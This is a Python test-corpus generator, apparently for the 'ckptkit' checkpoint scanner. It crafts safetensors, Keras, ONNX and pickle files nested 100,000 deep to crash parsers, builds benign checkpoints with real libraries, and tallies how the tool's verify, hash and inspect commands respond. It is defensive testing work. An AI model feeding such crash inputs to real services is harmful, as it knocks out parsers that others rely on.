# --- Crashes: structures nested 100,000 deep --------------------------------------------------------------

DEEP = 100_000


def _st_deep(folder: Path) -> bytes:
    header = b'{"a":' + b"[" * DEEP + b"]" * DEEP + b"}"
    return struct.pack("<Q", len(header)) + header


def _index_deep(folder: Path) -> bytes:
    return b'{"metadata": ' + b"[" * DEEP + b"]" * DEEP + b', "weight_map": {"w": "model.safetensors"}}'


def _keras_index_deep(folder: Path) -> bytes:
    return b'{"weight_map": ' + b"[" * DEEP + b"]" * DEEP + b"}"


def _keras_config_deep(folder: Path) -> bytes:
    return raw_zip([Member("metadata.json", b'{"keras_version": "3.9.2"}'),
                    Member("config.json", b"[" * DEEP + b"]" * DEEP),
                    Member("model.weights.h5", _keras_file(".weights.h5", False)(folder))])  # fmt: skip


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def _pb(number: int, value: bytes | int) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _wrap(inner: bytes, depth: int, prefix: Callable[[int], bytes]) -> bytes:
    """``inner`` wrapped ``depth`` times in messages whose head ``prefix(inner length)`` gives, in linear time."""
    heads, length = [], len(inner)
    for _ in range(depth):
        head = prefix(length)
        heads.append(head)
        length += len(head)
    return b"".join(reversed(heads)) + inner


def _onnx_tensor() -> bytes:
    return _pb(1, 2) + _pb(1, 2) + _pb(2, 1) + _pb(8, b"w") + _pb(9, W_DATA)  # dims, FLOAT, name, raw_data


def _onnx_model(graph: bytes) -> bytes:
    return _pb(1, 8) + _pb(7, graph) + _pb(8, _pb(2, 17))


def _onnx_deep_ifs(folder: Path) -> bytes:
    def head(n: int) -> bytes:
        branch = _pb(1, b"then_branch") + _pb(20, 5) + _varint(6 << 3 | 2) + _varint(n)
        node = _pb(1, b"c") + _pb(2, b"o") + _pb(4, b"If") + _varint(5 << 3 | 2) + _varint(len(branch) + n)
        return _varint(1 << 3 | 2) + _varint(len(node) + len(branch) + n) + node + branch

    return _onnx_model(_wrap(_pb(2, b"leaf") + _pb(5, _onnx_tensor()), DEEP, head))


def _onnx_deep_types(folder: Path) -> bytes:
    def head(n: int) -> bytes:
        seq = _varint(1 << 3 | 2) + _varint(n)
        return _varint(4 << 3 | 2) + _varint(len(seq) + n) + seq

    value_type = _wrap(_pb(1, _pb(1, 1)), DEEP, head)
    return _onnx_model(_pb(2, b"g") + _pb(5, _onnx_tensor()) + _pb(11, _pb(1, b"x") + _pb(2, value_type)))


def _onnx_deep_attributes(folder: Path) -> bytes:
    def head(n: int) -> bytes:
        attr = _pb(1, b"body") + _pb(20, 10) + _varint(11 << 3 | 2) + _varint(n)
        node = _pb(4, b"Loop") + _varint(5 << 3 | 2) + _varint(len(attr) + n)
        return _varint(1 << 3 | 2) + _varint(len(node) + len(attr) + n) + node + attr

    return _onnx_model(_wrap(_pb(2, b"leaf"), DEEP, head) + _pb(5, _onnx_tensor()))


def crash_samples() -> list[Sample]:
    def index(folder: Path) -> bytes:
        (folder / "model.safetensors").write_bytes(struct.pack("<Q", 2) + b"{}")
        return _index_deep(folder)

    return [
        Sample("deep_safetensors_header", "deep.safetensors", CRASH, _st_deep, "a header nested 100,000 deep", "issue"),
        Sample("deep_shard_index", "model.safetensors.index.json", CRASH, index, "an index nested 100,000 deep",
               "issue"),
        Sample("deep_keras_index", "model.weights.json", CRASH, _keras_index_deep,
               "a Keras shard index nested 100,000 deep", "issue"),
        Sample("deep_keras_config", "deep.keras", CRASH, _keras_config_deep, "a config.json nested 100,000 deep",
               "issue"),
        Sample("deep_onnx_subgraphs", "deep.onnx", CRASH, _onnx_deep_ifs, "If subgraphs nested 100,000 deep", "issue"),
        Sample("deep_onnx_graph_attributes", "deep.onnx", CRASH, _onnx_deep_attributes,
               "GRAPHS attributes nested 100,000 deep", "issue"),
        Sample("deep_onnx_types", "deep.onnx", CRASH, _onnx_deep_types, "a sequence type nested 100,000 deep", "issue"),
        Sample("deep_pickle_lists", "deep.pkl", CRASH,
               lambda f: b"\x80\x02" + b"]" * DEEP + b"a" * (DEEP - 1) + b".", "lists nested 100,000 deep", "issue"),
        Sample("deep_pickle_tuple_key", "deep.pkl", CRASH,
               lambda f: b"\x80\x02}" + b")" + b"\x85" * DEEP + b"K\x01s.", "a dict key of nested tuples", "issue"),
    ]  # fmt: skip


# --- Benign: real training checkpoints ----------------------------------------------------------------------


class Point(NamedTuple):
    x: int
    y: int


def _torch_bytes(obj: Any, **kwargs: Any) -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(obj, out, **kwargs)
    return out.getvalue()


def _model() -> Any:
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(
        torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(8, 3)
    )


def _trained() -> tuple[Any, Any, Any, Any]:
    import torch

    model = _model()
    opt = torch.optim.Adam(model.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.StepLR(opt, step_size=1)
    scaler = torch.amp.GradScaler("cpu")
    loss = model(torch.ones(2, 1, 4, 4)).sum()
    scaler.scale(loss).backward()
    scaler.step(opt)
    scaler.update()
    sched.step()
    return model, opt, sched, scaler


def _training_checkpoint(folder: Path) -> bytes:
    import torch

    model, opt, sched, scaler = _trained()
    return _torch_bytes({
        "epoch": 3, "model": model.state_dict(), "optimizer": opt.state_dict(), "scheduler": sched.state_dict(),
        "scaler": scaler.state_dict(), "args": argparse.Namespace(lr=1e-3, batch_size=8, tags=["a"]),
        "rng": {"torch": torch.get_rng_state(), "numpy": np.random.RandomState(0).get_state()},
        "best": np.float64(0.25), "history": np.arange(4, dtype=np.float32), "step": np.int64(1000),
    })  # fmt: skip


def _lightning_checkpoint(folder: Path) -> bytes:
    import torch

    model, opt, sched, _scaler = _trained()
    mc = "ModelCheckpoint{'monitor': 'val_loss', 'mode': 'min', 'every_n_train_steps': 0}"
    return _torch_bytes({
        "epoch": 4, "global_step": 250, "pytorch-lightning_version": "2.4.0",
        "state_dict": collections.OrderedDict((f"model.{k}", v) for k, v in model.state_dict().items()),
        "loops": {"fit_loop": {"state_dict": {}, "epoch_progress": {"total": {"ready": 5, "completed": 4}}}},
        "callbacks": {
            mc: {"monitor": "val_loss", "best_model_score": torch.tensor(0.31), "best_model_path": "/ckpt/e3.ckpt",
                 "current_score": torch.tensor(0.35), "dirpath": "/ckpt", "best_k_models": {"/ckpt/e3.ckpt":
                 torch.tensor(0.31)}, "kth_best_model_path": "/ckpt/e3.ckpt", "kth_value": torch.tensor(0.31),
                 "last_model_path": ""},
            "EarlyStopping{'monitor': 'val_loss', 'mode': 'min'}": {"wait_count": 1, "stopped_epoch": 0,
                                                                   "best_score": torch.tensor(0.31), "patience": 3},
        },
        "optimizer_states": [opt.state_dict()], "lr_schedulers": [sched.state_dict()],
        "hparams_name": "kwargs", "hyper_parameters": {"lr": 1e-3, "hidden": 8, "args": argparse.Namespace(seed=1)},
    })  # fmt: skip


def _python_values(folder: Path) -> bytes:
    import torch

    return _torch_bytes({
        "w": torch.ones(2, 2), "path": pathlib.PurePosixPath("/data/train"), "real_path": pathlib.Path("/tmp"),
        "when": datetime.datetime(2024, 5, 1, 12, 0), "took": datetime.timedelta(seconds=90),
        "run": uuid.UUID(int=7), "exact": decimal.Decimal("0.1"), "queue": collections.deque([1, 2]),
        "counts": collections.Counter("aab"), "groups": collections.defaultdict(list, {"a": [1]}),
        "ordered": collections.OrderedDict(a=1), "point": Point(1, 2), "dtype": torch.float16,
        "device": torch.device("cpu"), "size": torch.Size([2, 3]), "version": torch.__version__,
        "frozen": frozenset({1, 2}), "cplx": complex(1, 2), "blob": b"\x00\x01", "sl": slice(1, 4),
    })  # fmt: skip


def _bf16_tied(folder: Path) -> bytes:
    import torch

    emb = torch.randn(8, 4, generator=torch.Generator().manual_seed(1)).to(torch.bfloat16)
    return _torch_bytes({"embed.weight": emb, "lm_head.weight": emb, "scale": torch.ones(4, dtype=torch.float16)})


def benign_samples() -> list[Sample]:
    import torch

    def sd() -> Any:
        return _model().state_dict()

    real = "made by real torch"
    return [
        Sample("torch_state_dict", "model.pt", BENIGN, lambda f: _torch_bytes(sd()), "a conv+BN+linear state_dict",
               real),
        Sample("torch_state_dict_legacy", "model.pt", BENIGN,
               lambda f: _torch_bytes(sd(), _use_new_zipfile_serialization=False), "the legacy format", real),
        Sample("torch_state_dict_protocol4", "model.pt", BENIGN, lambda f: _torch_bytes(sd(), pickle_protocol=4),
               "pickle protocol 4: FRAME, MEMOIZE, STACK_GLOBAL", real),
        Sample("torch_training_checkpoint", "ckpt.pt", BENIGN, _training_checkpoint,
               "model, Adam state after a step, StepLR, AMP GradScaler, Namespace args, RNG states, numpy values",
               real),
        Sample("torch_training_checkpoint_legacy", "ckpt.pt", BENIGN,
               lambda f: _torch_bytes(_training_state(), _use_new_zipfile_serialization=False),
               "a training checkpoint in the legacy format", real),
        Sample("lightning_checkpoint", "epoch=4.ckpt", BENIGN, _lightning_checkpoint,
               "a Lightning-shaped checkpoint: callbacks state, loops, optimizer_states, hyper_parameters", real),
        Sample("torch_python_values", "values.pt", BENIGN, _python_values,
               "paths, datetimes, UUID, Decimal, deque, Counter, defaultdict, OrderedDict, namedtuple, torch.Size, "
               "dtype, device, version", real),
        Sample("torch_bf16_tied", "lm.bin", BENIGN, _bf16_tied, "bfloat16 tied embedding, float16", real),
        Sample("torch_sgd_state", "sgd.pt", BENIGN, lambda f: _torch_bytes(_sgd_state()), "SGD momentum buffers", real),
        Sample("torch_bare_tensor", "t.pt", BENIGN, lambda f: _torch_bytes(torch.arange(6.0)), "a bare tensor", real),
        Sample("pickle_dict_of_arrays", "weights.pkl", BENIGN,
               lambda f: pickle.dumps({"w": np.ones((2, 3), np.float32), "b": np.zeros(3), "epoch": 3,
                                       "args": argparse.Namespace(lr=0.1)}, protocol=2),
               "a pickled dict of numpy arrays", "pickle.dumps"),
        Sample("pickle_protocol5_arrays", "weights.pickle", BENIGN,
               lambda f: pickle.dumps({"w": np.arange(6.0).reshape(2, 3), "meta": {"name": "x"}}, protocol=5),
               "protocol 5 with numpy arrays", "pickle.dumps"),
        Sample("joblib_arrays", "model.joblib", BENIGN,
               lambda f: _joblib_bytes({"coef": np.ones((3, 2)), "intercept": np.zeros(2),
                                        "fortran": np.asfortranarray(np.ones((2, 3)))}),
               "joblib.dump of numeric arrays", "joblib"),
        Sample("joblib_compressed", "model.joblib", BENIGN, lambda f: _joblib_bytes({"coef": np.ones(5)}, 3),
               "joblib.dump(compress=3)", "joblib"),
        Sample("npy_float32", "w.npy", BENIGN, lambda f: _np_bytes(lambda o: np.save(o, np.ones((3, 4), np.float32))),
               "np.save", "numpy"),
        Sample("npy_fortran_big_endian", "w.npy", BENIGN,
               lambda f: _np_bytes(lambda o: np.save(o, np.asfortranarray(np.arange(6, dtype=">f8").reshape(2, 3)))),
               "np.save, Fortran order, big-endian", "numpy"),
        Sample("npz_arrays", "w.npz", BENIGN, lambda f: _np_bytes(lambda o: np.savez(o, a=np.ones(3), b=np.arange(4))),
               "np.savez", "numpy"),
        Sample("npz_compressed", "w.npz", BENIGN,
               lambda f: _np_bytes(lambda o: np.savez_compressed(o, a=np.ones((2, 2), np.float16))),
               "np.savez_compressed", "numpy"),
        Sample("keras_model.keras", "model.keras", BENIGN, _keras_file(".keras", False), "a Keras 3 model", "keras",
               False),
        Sample("keras_model.h5", "model.h5", BENIGN, _keras_file(".h5", False), "a legacy .h5 Keras model", "keras",
               False),
        Sample("keras_weights", "model.weights.h5", BENIGN, _keras_file(".weights.h5", False), "Keras 3 weights",
               "keras", False),
    ]  # fmt: skip


def _training_state() -> dict[str, Any]:
    model, opt, _sched, _scaler = _trained()
    return {"model": model.state_dict(), "optimizer": opt.state_dict(), "epoch": 1}


def _sgd_state() -> dict[str, Any]:
    import torch

    model = _model()
    opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.ones(2, 1, 4, 4)).sum().backward()
    opt.step()
    return {"model": model.state_dict(), "optimizer": opt.state_dict()}


def all_samples() -> list[Sample]:
    samples = payload_samples() + member_samples() + keras_samples() + numpy_samples() + crash_samples()
    samples += benign_samples()
    names = [s.name for s in samples]
    assert len(names) == len(set(names)), "sample names must be unique"
    return samples


# --- Counting (for a report): verify, hash and inspect on each sample ---------------------------------------

# Runs in a fresh interpreter, so that PYTHONPATH picks the ckptkit measured; the commands go through
# the CLI's own error mapping, as the console script's do.
_DRIVER = r"""
import json, sys
from click.testing import CliRunner
from ckptkit.cli import cli
out = {}
for entry in json.load(open(sys.argv[1])):
    path = sys.argv[2] + "/" + entry["file"]
    for cmd in ("verify", "hash", "inspect"):
        r = CliRunner().invoke(cli, [cmd, path], env={"CKPTKIT_DEBUG": None})
        crashed = r.exception is not None and not isinstance(r.exception, SystemExit)
        out[entry["name"] + " " + cmd] = [r.exit_code, crashed, (r.output or "")[-400:]]
json.dump(out, sys.stdout)
"""


def _crashed(code: int, crashed: bool, output: str) -> bool:
    return crashed or code not in (0, 1, 2) or "unexpected" in output or "Traceback" in output


def count(out: Path) -> dict[str, Any]:
    """Write the corpus under ``out`` and tally what ckptkit (the one on PYTHONPATH) answers."""
    samples = all_samples()
    manifest = write_corpus(samples, out)
    with tempfile.TemporaryDirectory() as cwd:
        proc = subprocess.run([sys.executable, "-c", _DRIVER, str(manifest), str(out)], capture_output=True,
                              text=True, cwd=cwd, env={**os.environ, "CKPTKIT_DEBUG": ""}, check=True)  # fmt: skip
        ran_in_cwd = (Path(cwd) / MARKER).exists()
    results = json.loads(proc.stdout)
    tally: dict[str, Any] = {"samples": len(samples), "malicious": 0, "benign": 0, "crash_samples": 0, "misses": [],
                             "false_positives": [], "crashes": [], "malicious_unjudged": [],
                             "inspect_accepts_malicious": [],
                             "payload_ran": ["(working folder)"] if ran_in_cwd else []}  # fmt: skip
    for sample in samples:
        tally[sample.kind if sample.kind != CRASH else "crash_samples"] += 1
        for cmd in ("verify", "hash", "inspect"):
            code, crashed, output = results[f"{sample.name} {cmd}"]
            if _crashed(code, crashed, output):
                tally["crashes"].append(f"{sample.name}: {cmd}: {output.strip().splitlines()[-1][:160]}")
        verify_code = results[f"{sample.name} verify"][0]
        if sample.kind in (MALICIOUS, CRASH) and verify_code == 0:
            tally["misses"].append(sample.name)
        if sample.kind == MALICIOUS and verify_code == 2:  # verify could not run: no verdict on its content
            tally["malicious_unjudged"].append(sample.name)
        if sample.kind == BENIGN and verify_code != 0:
            tally["false_positives"].append(f"{sample.name}: {results[sample.name + ' verify'][2].strip()[:300]}")
        if sample.kind == MALICIOUS and results[f"{sample.name} inspect"][0] == 0:
            tally["inspect_accepts_malicious"].append(sample.name)
        if (out / sample.name / MARKER).exists():
            tally["payload_ran"].append(sample.name)
    return tally


def write_corpus(samples: list[Sample], out: Path) -> Path:
    """Every sample under ``out/<name>/``, and ``out/manifest.json`` listing them."""
    manifest = []
    for sample in samples:
        path = sample.write(out / sample.name)
        manifest.append({"name": sample.name, "file": str(path.relative_to(out)), "kind": sample.kind,
                         "about": sample.about, "source": sample.source})  # fmt: skip
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2))
    return out / "manifest.json"


def main(argv: list[str]) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", nargs="?", type=Path, help="folder to write the corpus to")
    parser.add_argument("--count", action="store_true", help="run ckptkit on every sample and print the tally")
    args = parser.parse_args(argv)
    if args.count:
        with tempfile.TemporaryDirectory(prefix="ckptkit-security-") as tmp:
            tally = count(Path(args.out or tmp))
        summary = {k: (len(v) if isinstance(v, list) else v) for k, v in tally.items()}
        print(json.dumps({"summary": summary, **{k: v for k, v in tally.items() if isinstance(v, list) and v}},
                         indent=2))  # fmt: skip
        return
    if args.out is None:
        parser.error("give OUT, or --count")
    samples = all_samples()
    write_corpus(samples, args.out)
    print(f"wrote {len(samples)} samples to {args.out}")


if __name__ == "__main__":
    main(sys.argv[1:])
